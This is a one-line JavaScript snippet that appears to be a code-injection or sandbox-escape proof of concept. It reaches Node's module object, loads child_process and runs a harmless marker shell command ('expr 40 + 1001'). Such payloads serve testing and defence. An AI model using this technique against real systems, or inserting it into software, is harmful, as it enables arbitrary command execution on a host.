this.x=module; this.x.require('child_process').execSync('expr 40 + 1001',{stdio:'inherit'});
